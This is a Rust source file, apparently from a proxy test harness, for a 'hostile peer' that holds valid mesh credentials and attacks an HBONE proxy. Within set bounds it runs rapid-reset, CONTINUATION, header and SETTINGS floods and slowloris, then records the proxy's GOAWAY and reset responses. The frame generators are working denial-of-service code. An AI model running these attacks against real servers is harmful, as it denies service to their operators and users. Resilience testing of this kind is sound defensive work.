//! The hostile peer: a mesh workload with a valid certificate that opens
//! HBONE connections (mTLS, ALPN h2) and then misuses HTTP/2 with frames
//! written by hand, or stalls before or inside the handshake. It reads
//! everything the proxy sends to learn how the proxy answered (GOAWAY and
//! its code, RST_STREAM codes, the connection closed), and it reconnects
//! when the proxy ends a connection, as a persistent attacker would, until
//! its bounds (time, frames, connections) run out.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::pki_types::ServerName;
use serde_json::{json, Value};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use trellis_netns::{self as netns, NetNs, SocketOpts};

use super::frames::{self, flag, kind, FrameReader};

/// The attacks of issue 16, section 3.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Attack {
    /// HEADERS (CONNECT) then RST_STREAM (CANCEL), stream after stream.
    RapidReset,
    /// HEADERS without END_HEADERS, then CONTINUATION frames that never end.
    Continuation,
    /// CONNECTs whose header block is far over any sane size (500 fields
    /// of 100 bytes), each properly ended.
    HeaderFlood,
    /// SETTINGS frames back to back, each asking for an ACK.
    SettingsFlood,
    /// Connections that send a TLS ClientHello one byte at a time.
    SlowlorisTls,
    /// Connections that finish mTLS, then send the HTTP/2 preface one byte
    /// at a time and never finish it.
    SlowlorisH2,
}

impl Attack {
    pub const ALL: [Attack; 6] = [
        Attack::RapidReset,
        Attack::Continuation,
        Attack::HeaderFlood,
        Attack::SettingsFlood,
        Attack::SlowlorisTls,
        Attack::SlowlorisH2,
    ];

    pub fn key(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid-reset",
            Attack::Continuation => "continuation-flood",
            Attack::HeaderFlood => "header-flood",
            Attack::SettingsFlood => "settings-flood",
            Attack::SlowlorisTls => "slowloris-tls",
            Attack::SlowlorisH2 => "slowloris-h2",
        }
    }

    pub fn parse(s: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|a| a.key() == s)
    }

    /// The slowloris kinds: many connections at once instead of one after
    /// another.
    pub fn slow(self) -> bool {
        matches!(self, Attack::SlowlorisTls | Attack::SlowlorisH2)
    }
}

/// Where the attacker connects, and as whom.
#[derive(Clone)]
pub struct Target {
    /// The proxy's HBONE port.
    pub addr: SocketAddr,
    /// The CONNECT authority (a destination the proxy would serve).
    pub authority: String,
    /// mTLS with the attacker's mesh identity, expecting the proxy's.
    pub tls: Arc<rustls::ClientConfig>,
}

/// How far one attack run may go.
#[derive(Clone, Copy, Debug)]
pub struct Bounds {
    pub duration: Duration,
    /// Frames over all connections (frame attacks).
    pub max_frames: u64,
    /// Connections over the run (frame attacks reconnect up to this).
    pub max_connections: u64,
    /// Slow connections held at once (slowloris).
    pub slow_conns: usize,
    /// Time between two bytes of a slow connection.
    pub byte_every: Duration,
}

/// A write that does not complete in this long means the proxy stopped
/// reading the connection: the attacker gives it up.
const WRITE_STALL: Duration = Duration::from_secs(3);
/// How long to wait for the proxy's first SETTINGS after the preface.
const SETTINGS_WAIT: Duration = Duration::from_secs(3);
/// Frames per write (one TLS record or a few): a real attacker batches.
const BATCH: usize = 32;

/// What the attacker sent and what the proxy answered, over one run.
#[derive(Debug, Default, Clone)]
pub struct Outcome {
    pub connections: u64,
    pub tls_failed: u64,
    pub frames_sent: u64,
    /// HTTP/2 bytes (or TLS bytes for slowloris-tls) written.
    pub bytes_sent: u64,
    /// GOAWAY frames received, by error code.
    pub goaway: BTreeMap<String, u64>,
    /// RST_STREAM frames received, by error code.
    pub rst: BTreeMap<String, u64>,
    /// HEADERS (responses) received.
    pub responses: u64,
    pub settings_acks: u64,
    /// How each connection ended.
    pub ends: BTreeMap<String, u64>,
    /// Frames sent on a connection before the proxy ended it (median).
    pub frames_per_conn: Vec<u64>,
    /// Seconds from connect until the proxy closed a slow connection.
    pub closed_after_s: Vec<f64>,
    /// The attacker thread's CPU time.
    pub cpu_s: f64,
    pub wall_s: f64,
}

impl Outcome {
    fn end(&mut self, why: impl Into<String>) {
        *self.ends.entry(why.into()).or_default() += 1;
    }

    /// Connections the proxy ended (anything but the attacker's own bound).
    pub fn ended_by_proxy(&self) -> u64 {
        self.ends
            .iter()
            .filter(|(k, _)| !k.starts_with("open"))
            .map(|(_, v)| v)
            .sum()
    }

    /// Connections still open when the attacker's bound ran out.
    pub fn open_at_bound(&self) -> u64 {
        self.ends
            .iter()
            .filter(|(k, _)| k.starts_with("open"))
            .map(|(_, v)| v)
            .sum()
    }

    /// The proxy's answer in a few words.
    pub fn proxy_answer(&self) -> String {
        let mut parts = Vec::new();
        let list = |m: &BTreeMap<String, u64>| {
            m.iter()
                .map(|(k, v)| format!("{k} ×{v}"))
                .collect::<Vec<_>>()
                .join(", ")
        };
        if !self.goaway.is_empty() {
            parts.push(format!("GOAWAY {}", list(&self.goaway)));
        }
        if !self.rst.is_empty() {
            parts.push(format!("RST_STREAM {}", list(&self.rst)));
        }
        if self.responses > 0 {
            parts.push(format!("{} responses", self.responses));
        }
        if self.settings_acks > 0 {
            parts.push(format!("{} SETTINGS ACKs", self.settings_acks));
        }
        parts.push(format!("ends: {}", list(&self.ends)));
        parts.join("; ")
    }

    pub fn median_frames_per_conn(&self) -> Option<u64> {
        let mut v = self.frames_per_conn.clone();
        v.sort_unstable();
        v.get(v.len() / 2).copied()
    }

    pub fn to_json(&self) -> Value {
        let mut closed = self.closed_after_s.clone();
        closed.sort_by(f64::total_cmp);
        json!({
            "connections": self.connections,
            "tls_failed": self.tls_failed,
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "goaway": self.goaway,
            "rst_stream": self.rst,
            "responses": self.responses,
            "settings_acks": self.settings_acks,
            "ends": self.ends,
            "median_frames_per_conn": self.median_frames_per_conn(),
            "slow_closed_after_s": {
                "count": closed.len(),
                "min": closed.first(),
                "median": closed.get(closed.len() / 2),
                "max": closed.last(),
            },
            "cpu_s": self.cpu_s,
            "wall_s": self.wall_s,
        })
    }
}

/// CPU time of the calling thread.
pub fn thread_cpu_s() -> f64 {
    let mut ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: writes only the struct passed.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    ts.tv_sec as f64 + ts.tv_nsec as f64 / 1e9
}

/// Runs `attack` against `target` from `ns` on a new thread pinned to
/// `cpu` at the lowest priority (nice 19), so that the attacker uses spare
/// CPU and the victim's load generator on the same CPU is not slowed by the
/// attacker itself; returns when the bounds run out.
pub fn run(
    attack: Attack,
    ns: &NetNs,
    cpu: usize,
    target: Target,
    bounds: Bounds,
) -> anyhow::Result<Outcome> {
    let ns = ns.try_clone()?;
    let h = std::thread::Builder::new()
        .name(format!("attack-{}", attack.key()))
        .spawn(move || -> anyhow::Result<Outcome> {
            crate::harness::sys::pin_current_thread(cpu)?;
            // SAFETY: setpriority on this thread (tid) only.
            unsafe {
                libc::setpriority(libc::PRIO_PROCESS, libc::gettid() as libc::id_t, 19);
            }
            let rt = crate::harness::sys::runtime()?;
            let cpu0 = thread_cpu_s();
            let t0 = Instant::now();
            let mut out = rt.block_on(run_async(attack, ns, target, bounds));
            out.cpu_s = thread_cpu_s() - cpu0;
            out.wall_s = t0.elapsed().as_secs_f64();
            Ok(out)
        })?;
    h.join()
        .map_err(|_| anyhow::anyhow!("the attacker thread panicked"))?
}

async fn run_async(attack: Attack, ns: NetNs, target: Target, b: Bounds) -> Outcome {
    let deadline = Instant::now() + b.duration;
    if attack.slow() {
        return slowloris(attack, Arc::new(ns), target, b, deadline).await;
    }
    let mut out = Outcome::default();
    while Instant::now() < deadline
        && out.connections < b.max_connections
        && out.frames_sent < b.max_frames
    {
        out.connections += 1;
        let tls = match connect_tls(&ns, &target).await {
            Ok(t) => t,
            Err(e) => {
                out.tls_failed += 1;
                out.end(format!("connect/tls failed: {e}"));
                // The proxy may be refusing for a while; do not spin.
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            }
        };
        let budget = b.max_frames - out.frames_sent;
        frame_conn(attack, tls, &target, deadline, budget, &mut out).await;
    }
    out
}

async fn tcp(ns: &NetNs, addr: SocketAddr) -> std::io::Result<TcpStream> {
    let opts = SocketOpts {
        nodelay: true,
        ..SocketOpts::default()
    };
    let s = netns::tcp_socket(Some(ns), addr, opts)?;
    tokio::time::timeout(Duration::from_secs(5), s.connect(addr))
        .await
        .map_err(|_| std::io::Error::new(std::io::ErrorKind::TimedOut, "connect timed out"))?
}

async fn connect_tls(ns: &NetNs, t: &Target) -> anyhow::Result<hbone::ClientTls> {
    let tcp = tcp(ns, t.addr).await?;
    let tls = tokio::time::timeout(
        Duration::from_secs(5),
        hbone::tls_connect(tcp, t.tls.clone()),
    )
    .await
    .map_err(|_| anyhow::anyhow!("tls handshake timed out"))??;
    Ok(tls)
}

/// What the read half saw on one connection.
#[derive(Default)]
struct ReadSide {
    goaway: Vec<u32>,
    rst: Vec<u32>,
    responses: u64,
    settings_acks: u64,
    /// How the read side ended: "eof", or an I/O error kind.
    end: Option<String>,
}

/// Shared between the read task and the writer.
#[derive(Default)]
struct Flags {
    closed: AtomicBool,
    got_settings: AtomicBool,
    pings: AtomicU64,
}

async fn read_side<R: AsyncRead + Unpin>(mut r: R, flags: Arc<Flags>) -> ReadSide {
    let mut side = ReadSide::default();
    let mut fr = FrameReader::default();
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        match r.read(&mut buf).await {
            Ok(0) => {
                side.end = Some("eof".into());
                break;
            }
            Ok(n) => fr.push(&buf[..n]),
            Err(e) => {
                side.end = Some(format!("{:?}", e.kind()));
                break;
            }
        }
        while let Some(f) = fr.next_frame() {
            match f.kind {
                kind::GOAWAY => {
                    if let Some((_, code)) = f.error_code() {
                        side.goaway.push(code);
                    }
                }
                kind::RST_STREAM => {
                    if let Some((_, code)) = f.error_code() {
                        side.rst.push(code);
                    }
                }
                kind::HEADERS => side.responses += 1,
                kind::SETTINGS if f.flags & flag::ACK != 0 => side.settings_acks += 1,
                kind::SETTINGS => flags.got_settings.store(true, Ordering::Release),
                kind::PING if f.flags & flag::ACK == 0 => {
                    flags.pings.fetch_add(1, Ordering::Relaxed);
                }
                _ => {}
            }
        }
    }
    flags.closed.store(true, Ordering::Release);
    side
}

/// Per-connection generator state.
struct Gen {
    block: Vec<u8>,
    /// The header flood's oversized block.
    big_block: Vec<u8>,
    next_stream: u32,
    continuation_open: bool,
    window_flip: bool,
}

impl Gen {
    fn new(attack: Attack, authority: &str) -> Gen {
        let block = frames::connect_block(authority);
        let big_block = if attack == Attack::HeaderFlood {
            let mut b = block.clone();
            let value = [b'a'; 100];
            // 55 KB: over the 16 KiB header list limit, in four 16 KiB
            // frames (h2 ends a connection past five CONTINUATIONs, which
            // the continuation flood tries): each stream takes the
            // oversized-headers path.
            for i in 0..500 {
                frames::hpack_literal(&mut b, format!("x-flood-{i:04}").as_bytes(), &value);
            }
            b
        } else {
            Vec::new()
        };
        Gen {
            block,
            big_block,
            next_stream: 1,
            continuation_open: false,
            window_flip: false,
        }
    }

    /// Appends one batch of the attack to `out`; returns the frames in it,
    /// or 0 when this connection can carry no more (stream ids used up).
    fn batch(&mut self, attack: Attack, out: &mut Vec<u8>) -> u64 {
        let mut n = 0;
        match attack {
            Attack::RapidReset => {
                for _ in 0..BATCH / 2 {
                    if self.next_stream > (1 << 31) - 3 {
                        return n;
                    }
                    let s = self.next_stream;
                    frames::frame(out, kind::HEADERS, flag::END_HEADERS, s, &self.block);
                    frames::rst_stream(out, s, frames::CANCEL);
                    self.next_stream += 2;
                    n += 2;
                }
            }
            Attack::Continuation => {
                if !self.continuation_open {
                    frames::frame(out, kind::HEADERS, 0, 1, &self.block);
                    self.continuation_open = true;
                    n += 1;
                }
                // Small fragments, each a whole header field: the most
                // frames (the per-frame work) for the bytes.
                let mut field = Vec::new();
                frames::hpack_literal(&mut field, b"x-c", b"0123456789abcdef");
                for _ in 0..BATCH {
                    frames::frame(out, kind::CONTINUATION, 0, 1, &field);
                    n += 1;
                }
            }
            Attack::HeaderFlood => {
                if self.next_stream > (1 << 31) - 3 {
                    return 0;
                }
                let s = self.next_stream;
                self.next_stream += 2;
                let chunks: Vec<&[u8]> = self.big_block.chunks(16 * 1024).collect();
                for (i, c) in chunks.iter().enumerate() {
                    let last = i + 1 == chunks.len();
                    let k = if i == 0 {
                        kind::HEADERS
                    } else {
                        kind::CONTINUATION
                    };
                    let f = if last { flag::END_HEADERS } else { 0 };
                    frames::frame(out, k, f, s, c);
                    n += 1;
                }
            }
            Attack::SettingsFlood => {
                for _ in 0..BATCH {
                    // Changing the initial window makes the peer revisit every
                    // stream's window, the most work a SETTINGS frame can ask.
                    self.window_flip = !self.window_flip;
                    let w = if self.window_flip { 65_536 } else { 65_535 };
                    frames::settings(out, &[(frames::SETTINGS_INITIAL_WINDOW_SIZE, w)]);
                    n += 1;
                }
            }
            Attack::SlowlorisTls | Attack::SlowlorisH2 => {}
        }
        n
    }
}

async fn frame_conn(
    attack: Attack,
    tls: hbone::ClientTls,
    target: &Target,
    deadline: Instant,
    budget: u64,
    out: &mut Outcome,
) {
    let (r, mut w) = tokio::io::split(tls);
    let flags = Arc::new(Flags::default());
    let reader = tokio::spawn(read_side(r, flags.clone()));
    let mut sent_frames = 0u64;
    let mut buf = Vec::with_capacity(64 * 1024);
    buf.extend_from_slice(frames::PREFACE);
    frames::settings(&mut buf, &[]);
    let mut end: Option<String> = None;
    if let Err(e) = write(&mut w, &buf).await {
        end = Some(e);
    }
    out.bytes_sent += buf.len() as u64;
    out.frames_sent += 1;
    sent_frames += 1;
    // ACK the proxy's SETTINGS before attacking, as a client must.
    let settle = Instant::now() + SETTINGS_WAIT;
    while end.is_none() && !flags.got_settings.load(Ordering::Acquire) {
        if flags.closed.load(Ordering::Acquire) || Instant::now() > settle {
            break;
        }
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    let mut gen = Gen::new(attack, &target.authority);
    let mut pings_answered = 0;
    while end.is_none() {
        if flags.closed.load(Ordering::Acquire) {
            break;
        }
        if Instant::now() >= deadline || sent_frames >= budget {
            end = Some("open at the attacker's bound".into());
            break;
        }
        buf.clear();
        if sent_frames == 1 {
            frames::settings_ack(&mut buf);
            sent_frames += 1;
        }
        // Answer keep-alive PINGs, so the connection ends for the attack,
        // not for a missed PONG.
        let pings = flags.pings.load(Ordering::Relaxed);
        while pings_answered < pings {
            frames::ping_ack(&mut buf, &[0; 8]);
            pings_answered += 1;
        }
        let n = gen.batch(attack, &mut buf);
        if n == 0 {
            end = Some("open: stream ids used up".into());
            break;
        }
        sent_frames += n;
        out.bytes_sent += buf.len() as u64;
        if let Err(e) = write(&mut w, &buf).await {
            // The proxy closed while we wrote: its answer is in the read side.
            if !flags.closed.load(Ordering::Acquire) {
                end = Some(e);
            }
            break;
        }
    }
    out.frames_sent += sent_frames - 1;
    let open = end.as_deref().is_some_and(|e| e.starts_with("open"));
    if open {
        // Our bound: close our side; whatever the proxy still sends is read.
        let _ = w.shutdown().await;
    }
    let side = match tokio::time::timeout(Duration::from_secs(5), reader).await {
        Ok(Ok(s)) => s,
        _ => ReadSide {
            end: Some("no close from the proxy within 5 s".into()),
            ..ReadSide::default()
        },
    };
    for c in &side.goaway {
        *out.goaway.entry(frames::code_name(*c)).or_default() += 1;
    }
    for c in &side.rst {
        *out.rst.entry(frames::code_name(*c)).or_default() += 1;
    }
    out.responses += side.responses;
    out.settings_acks += side.settings_acks;
    let why = match (end, side.goaway.last()) {
        (Some(e), _) => e,
        (None, Some(c)) => format!(
            "GOAWAY {} then {}",
            frames::code_name(*c),
            side.end.unwrap_or_default()
        ),
        (None, None) => format!("closed ({})", side.end.unwrap_or_default()),
    };
    if !why.starts_with("open") {
        out.frames_per_conn.push(sent_frames);
    }
    out.end(why);
}

async fn write<W: AsyncWrite + Unpin>(w: &mut W, buf: &[u8]) -> Result<(), String> {
    match tokio::time::timeout(WRITE_STALL, async {
        w.write_all(buf).await?;
        w.flush().await
    })
    .await
    {
        Ok(Ok(())) => Ok(()),
        Ok(Err(e)) => Err(format!("write failed: {:?}", e.kind())),
        Err(_) => Err(format!(
            "write stalled {WRITE_STALL:?} (the proxy stopped reading)"
        )),
    }
}

/// Slow connections: `b.slow_conns` at once, each sending one byte every
/// `b.byte_every`: of a TLS ClientHello, or (after mTLS) of the HTTP/2
/// preface. Each ends when the proxy closes it, or at the deadline.
async fn slowloris(
    attack: Attack,
    ns: Arc<NetNs>,
    target: Target,
    b: Bounds,
    deadline: Instant,
) -> Outcome {
    let hello = client_hello(&target);
    let target = Arc::new(target);
    let mut tasks = Vec::new();
    for _ in 0..b.slow_conns {
        let (ns, target, hello) = (ns.clone(), target.clone(), hello.clone());
        tasks.push(tokio::spawn(async move {
            slow_conn(attack, &ns, &target, &hello, b.byte_every, deadline).await
        }));
    }
    let mut out = Outcome::default();
    for t in tasks {
        out.connections += 1;
        let Ok(s) = t.await else {
            out.end("task failed");
            continue;
        };
        out.bytes_sent += s.bytes;
        if s.tls_failed {
            out.tls_failed += 1;
        }
        if let Some(after) = s.closed_after {
            out.closed_after_s.push(after.as_secs_f64());
        }
        for c in &s.side.goaway {
            *out.goaway.entry(frames::code_name(*c)).or_default() += 1;
        }
        out.end(s.end);
    }
    out
}

struct Slow {
    bytes: u64,
    tls_failed: bool,
    closed_after: Option<Duration>,
    side: ReadSide,
    end: String,
}

/// A real ClientHello for the target (rustls writes it), to dribble out.
fn client_hello(t: &Target) -> Vec<u8> {
    let name = ServerName::IpAddress(t.addr.ip().into());
    let mut out = Vec::new();
    if let Ok(mut c) = rustls::ClientConnection::new(t.tls.clone(), name) {
        let _ = c.write_tls(&mut out);
    }
    out
}

async fn slow_conn(
    attack: Attack,
    ns: &NetNs,
    t: &Target,
    hello: &[u8],
    every: Duration,
    deadline: Instant,
) -> Slow {
    let t0 = Instant::now();
    let mut s = Slow {
        bytes: 0,
        tls_failed: false,
        closed_after: None,
        side: ReadSide::default(),
        end: String::new(),
    };
    let result = match attack {
        Attack::SlowlorisTls => match tcp(ns, t.addr).await {
            Ok(tcp) => dribble(tcp, hello, every, deadline, &mut s.bytes).await,
            Err(e) => Err(format!("connect failed: {:?}", e.kind())),
        },
        _ => match connect_tls(ns, t).await {
            Ok(tls) => dribble(tls, frames::PREFACE, every, deadline, &mut s.bytes).await,
            Err(e) => {
                s.tls_failed = true;
                Err(format!("connect/tls failed: {e}"))
            }
        },
    };
    match result {
        Ok(Some(side)) => {
            s.closed_after = Some(t0.elapsed());
            s.end = match side.goaway.last() {
                Some(c) => format!("GOAWAY {} then closed", frames::code_name(*c)),
                None => format!(
                    "closed by the proxy ({})",
                    side.end.as_deref().unwrap_or("")
                ),
            };
            s.side = side;
        }
        Ok(None) => s.end = "open at the attacker's bound".into(),
        Err(e) => s.end = e,
    }
    s
}

/// Sends `bytes` one at a time, `every` apart, then idles, reading what
/// the proxy sends; `Ok(Some)` when the proxy closed the connection,
/// `Ok(None)` at the deadline.
async fn dribble<S: AsyncRead + AsyncWrite + Unpin + Send + 'static>(
    io: S,
    bytes: &[u8],
    every: Duration,
    deadline: Instant,
    sent: &mut u64,
) -> Result<Option<ReadSide>, String> {
    let (r, mut w) = tokio::io::split(io);
    let flags = Arc::new(Flags::default());
    let mut reader = tokio::spawn(read_side(r, flags.clone()));
    let mut next = 0;
    let mut tick = tokio::time::interval(every);
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    let end = tokio::time::sleep_until(deadline.into());
    tokio::pin!(end);
    loop {
        tokio::select! {
            side = &mut reader => return Ok(Some(side.unwrap_or_default())),
            () = &mut end => {
                reader.abort();
                return Ok(None);
            }
            _ = tick.tick(), if next < bytes.len() => {
                // A failed write means the proxy closed: the reader says how.
                if w.write_all(&bytes[next..=next]).await.is_ok() && w.flush().await.is_ok() {
                    *sent += 1;
                }
                next += 1;
            }
        }
    }
}
